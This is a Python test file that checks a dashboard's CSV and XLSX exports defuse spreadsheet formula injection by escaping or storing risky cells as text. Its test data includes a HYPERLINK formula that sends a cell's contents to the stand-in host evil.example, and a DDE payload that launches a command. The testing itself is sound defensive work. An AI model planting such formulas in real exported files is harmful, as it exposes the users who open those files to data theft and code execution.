"""Exports carry stored text (step names a process designer wrote, units, townships): text that a
spreadsheet would take for a formula is written as text, in CSV and in XLSX."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from app.dashboard.exports import to_csv, to_xlsx
from app.dashboard.queries import Table

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def _table() -> Table:
    return Table(key="tasks", title="t", columns=[("step", "=步骤"), ("n", "count")],
                 rows=[{"step": text, "n": -5} for text in HOSTILE] + [{"step": "出警", "n": 3}])


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8-sig"))))
    assert rows[0] == ["'=步骤", "count"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE] + ["出警"]
    assert [r[1] for r in rows[1:]] == ["-5"] * len(HOSTILE) + ["3"]  # numbers stay numbers


def test_xlsx_cells_that_would_be_formulas_are_text() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=1)]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == ["=步骤", *HOSTILE, "出警"]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [-5] * len(HOSTILE) + [3]
